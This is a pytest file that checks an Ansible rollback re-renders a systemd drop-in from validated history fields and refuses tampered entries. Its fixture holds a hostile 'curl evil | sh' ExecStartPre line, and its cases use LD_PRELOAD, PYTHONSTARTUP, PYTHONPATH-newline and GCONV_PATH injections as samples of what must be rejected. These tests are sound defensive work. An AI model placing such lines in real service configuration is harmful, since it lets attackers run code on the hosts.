"""A last good deploy's restore against the service role's drop-in rule (module_utils/_history's
restore_fields, roles/kdtree_service's preflight.yml and render_dropin, roles/kdtree_rollback's tasks):
the recorded fields re-render the drop-in the deploy installed, a tampered entry is refused. The
history's own unit tests are tests/unit/plugins/module_utils/test__history.py."""

from __future__ import annotations

import json

import pytest

pytest.importorskip("ansible")  # the tools venv has it; the torch venv, which collects these too, does not
from ansible_collections.kdtree.fleet.plugins.module_utils import _history as history
from ansible_collections.kdtree.fleet.plugins.modules import kdtree_history
from ansible_collections.kdtree.fleet.tests.unit.helpers.histories import deploy, params


@pytest.fixture
def roots(tmp_path):
    build_root = tmp_path / "opt" / "kdtree"
    patch_root = build_root / "patches"
    (build_root / "builds" / "sm_120a-x").mkdir(parents=True)
    (patch_root / "0123456789abcdef").mkdir(parents=True)
    return build_root, patch_root


def good_entry(build_root, patch_root, **over) -> dict:
    from test_dropin_template import fields_of

    lib = f"{build_root}/builds/sm_120a-x/libkdtree_verify.so"
    patch = f"{patch_root}/0123456789abcdef"
    fields = fields_of(
        _kdtree_service_pythonpath=patch,
        _kdtree_service_lib_path=lib,
        kdtree_service_nccl_env={"NCCL_P2P_DISABLE": "1"},
        kdtree_service_env_extra={"CUDA_VISIBLE_DEVICES": "0", "LD_LIBRARY_PATH": "/usr/local/cuda/lib64"},
        kdtree_service_env_secret={"SGLANG_API_KEY": "never-recorded"},
    )
    entry = {"id": "e1", "build_id": "sm_120a-x", "lib_path": lib, "patch_dir": patch, "mode": "validate",
             "nccl_env": {"NCCL_P2P_DISABLE": "1"}, "exec_start_replaced": False, "dropin_fields": fields,
             "dropin": "[Service]\nExecStartPre=/bin/sh -c 'curl evil | sh'\n"}  # fmt: skip
    entry.update(over)
    return entry


TODAYS_EXTRA = ["CUDA_VISIBLE_DEVICES", "LD_LIBRARY_PATH"]  # the names today's env_extra sets


def restore(entry, build_root, patch_root):
    return history.restore_fields(
        entry,
        str(build_root),
        str(patch_root),
        "/run/kdtree-sglang",
        ["CUDA_VISIBLE_DEVICES", "LD_LIBRARY_PATH"],
    )


def test_a_previous_rollback_re_renders_the_recorded_fields_with_the_service_rule_not_the_stored_text(roots):
    from test_dropin_template import render, render_fields

    build_root, patch_root = roots
    entry = good_entry(build_root, patch_root)
    fields = restore(entry, build_root, patch_root)
    text = render_fields(fields)
    assert "never-recorded" not in json.dumps(entry["dropin_fields"])
    assert "ExecStartPre" not in text and "curl" not in text
    assert text == render(
        _kdtree_service_pythonpath=entry["patch_dir"],
        _kdtree_service_lib_path=entry["lib_path"],
        kdtree_service_nccl_env={"NCCL_P2P_DISABLE": "1"},
        kdtree_service_env_extra={"CUDA_VISIBLE_DEVICES": "0", "LD_LIBRARY_PATH": "/usr/local/cuda/lib64"},
        kdtree_service_env_secret={"SGLANG_API_KEY": "never-recorded"},
    )  # the same text the deploy installed: the same rule
    assert "SGLANG_API_KEY" in text and "never-recorded" not in text


def _tampered(entry: dict, build_root, patch_root) -> list[tuple[str, dict]]:
    env = entry["dropin_fields"]["env"]

    def with_env(pairs):
        return {**entry, "dropin_fields": {**entry["dropin_fields"], "env": pairs}}

    def replaced(key, value):
        return with_env([[k, value if k == key else v] for k, v in env])

    return [
        ("no recorded drop-in fields", {k: v for k, v in entry.items() if k != "dropin_fields"}),
        (
            "is not .*builds/sm_120a-x/libkdtree_verify.so",
            {**entry, "lib_path": "/tmp/evil/libkdtree_verify.so"},
        ),
        ("is not .*builds", {**entry, "lib_path": f"{build_root}/builds/../../evil/libkdtree_verify.so"}),
        ("is not .*patches/\\*", {**entry, "patch_dir": f"{patch_root}/a/b"}),
        ("is not .*patches/\\*", {**entry, "patch_dir": "/srv/evil"}),
        ("mode 'debug'", {**entry, "mode": "debug"}),
        ("build id", {**entry, "build_id": "../x"}),
        ("LD_PRELOAD is not one kdtree owns", with_env([*env, ["LD_PRELOAD", "/tmp/evil.so"]])),
        ("PYTHONSTARTUP is not one kdtree owns", with_env([*env, ["PYTHONSTARTUP", "/tmp/evil.py"]])),
        ("one-line text", replaced("PYTHONPATH", f"{entry['patch_dir']}\nExecStartPre=/bin/evil")),
        ("KDTREE_LIB=", replaced("KDTREE_LIB", "/tmp/evil.so")),
        ("KDTREE_VERIFY=", replaced("KDTREE_VERIFY", "on")),
        ("PYTHONPATH does not start", replaced("PYTHONPATH", "/tmp/evil:" + entry["patch_dir"])),
        ("NCCL_", with_env([*env, ["NCCL_DEBUG", "INFO"]])),
        ("command line and exec_start_replaced disagree", {**entry, "exec_start_replaced": True}),
        (
            "secret variable names",
            {**entry, "dropin_fields": {**entry["dropin_fields"], "secret_names": ["A B"]}},
        ),
    ]


def test_a_tampered_entry_is_refused_naming_the_field(roots):
    build_root, patch_root = roots
    entry = good_entry(build_root, patch_root)
    for why, bad in _tampered(entry, build_root, patch_root):
        with pytest.raises(history.HistoryError, match=why):
            restore(bad, build_root, patch_root)


def with_env(entry: dict, env: list) -> dict:
    return {**entry, "dropin_fields": {**entry["dropin_fields"], "env": env}}


def test_a_variable_outside_the_allowlist_is_refused_though_no_denylist_names_it(roots):
    """Kdtree's own names, NCCL_* and today's env_extra only: a name that makes a library load or read
    other files (GCONV_PATH, OPENSSL_CONF, MALLOC_CONF) is refused like LD_PRELOAD."""
    build_root, patch_root = roots
    entry = good_entry(build_root, patch_root)
    env = entry["dropin_fields"]["env"]
    for key in ("GCONV_PATH", "OPENSSL_CONF", "MALLOC_CONF"):
        with pytest.raises(history.HistoryError, match=f"{key} is not one kdtree owns"):
            restore(with_env(entry, [*env, [key, "/tmp/x"]]), build_root, patch_root)


def test_every_pythonpath_entry_is_checked_not_only_the_patch_directory(roots, tmp_path):
    build_root, patch_root = roots
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o777)
    entry = good_entry(build_root, patch_root)
    env = [[k, f"{v}:{shared}" if k == "PYTHONPATH" else v] for k, v in entry["dropin_fields"]["env"]]
    with pytest.raises(history.HistoryError, match=r"PYTHONPATH entry .*shared is writable by group/others"):
        restore(with_env(entry, env), build_root, patch_root)
    shared.chmod(0o755)
    assert dict(restore(with_env(entry, env), build_root, patch_root)["env"])["PYTHONPATH"].endswith("shared")


def test_unsafe_roots_refuse_the_restore(roots):
    build_root, patch_root = roots
    patch_root.chmod(0o777)
    with pytest.raises(history.HistoryError, match="777"):
        restore(good_entry(build_root, patch_root), build_root, patch_root)


def test_the_module_reports_the_refusal_and_the_checked_fields(roots, tmp_path):
    build_root, patch_root = roots
    path = tmp_path / "state.json"
    entry = good_entry(build_root, patch_root)
    record = {k: v for k, v in entry.items() if k not in ("id", "dropin")}
    deploy(path, "X", "healthy", **record)
    spec = {"build_root": str(build_root), "patch_root": str(patch_root), "status_dir": "/run/kdtree-sglang",
            "extra_keys": TODAYS_EXTRA}  # fmt: skip
    out = kdtree_history.run(params(path, restore=spec), False)
    assert out["last_good_refusal"] == "" and out["last_good_fields"]["env"] == entry["dropin_fields"]["env"]
    out = kdtree_history.run(params(path, restore={**spec, "extra_keys": ["CUDA_VISIBLE_DEVICES"]}), False)
    assert (
        out["last_good_fields"] is None
        and "LD_LIBRARY_PATH is not one kdtree owns" in out["last_good_refusal"]
    )


def test_the_rollback_renders_previous_from_the_checked_fields_never_the_stored_text():
    from conftest import ROLES, load_yaml

    previous = load_yaml(ROLES / "kdtree_rollback" / "tasks" / "previous.yml")
    text = (ROLES / "kdtree_rollback" / "tasks" / "previous.yml").read_text()
    assert "_kdtree_rollback_previous.dropin }}" not in text
    render = next(t for t in previous if "ansible.builtin.include_role" in t)
    assert render["ansible.builtin.include_role"]["tasks_from"] == "render_dropin"
    assert render["vars"]["kdtree_service_dropin_fields"] == "{{ _kdtree_rollback_previous_fields }}"
    put = next(t for t in previous if "ansible.builtin.copy" in t)
    assert put["ansible.builtin.copy"]["content"] == "{{ kdtree_service_dropin_text }}"
    change = load_yaml(ROLES / "kdtree_service" / "tasks" / "change.yml")
    assert any(t.get("ansible.builtin.import_tasks") == "render_dropin.yml" for t in change)
    # the rule that picks the target (rollback.yml's and the deploy's planned rescue's) reads the history
    decide = load_yaml(ROLES / "kdtree_rollback" / "tasks" / "decide.yml")
    read = next(t for t in decide if "kdtree.fleet.kdtree_history" in t)
    assert set(read["kdtree.fleet.kdtree_history"]["restore"]) == {
        "build_root",
        "patch_root",
        "status_dir",
        "extra_keys",
    }


def test_numbers_in_the_inventory_are_recorded_as_the_text_the_drop_in_writes(roots):
    from test_dropin_template import fields_of, render, render_fields

    build_root, patch_root = roots
    over = {"kdtree_service_nccl_env": {"NCCL_IB_DISABLE": 1},
            "kdtree_service_env_extra": {"CUDA_VISIBLE_DEVICES": 0},
            "_kdtree_service_pythonpath": f"{patch_root}/0123456789abcdef",
            "_kdtree_service_lib_path": f"{build_root}/builds/sm_120a-x/libkdtree_verify.so"}  # fmt: skip
    fields = fields_of(**over)
    assert ["NCCL_IB_DISABLE", "1"] in fields["env"] and ["CUDA_VISIBLE_DEVICES", "0"] in fields["env"]
    entry = good_entry(build_root, patch_root, dropin_fields=fields, nccl_env={"NCCL_IB_DISABLE": 1})
    assert render_fields(restore(entry, build_root, patch_root)) == render(**over)
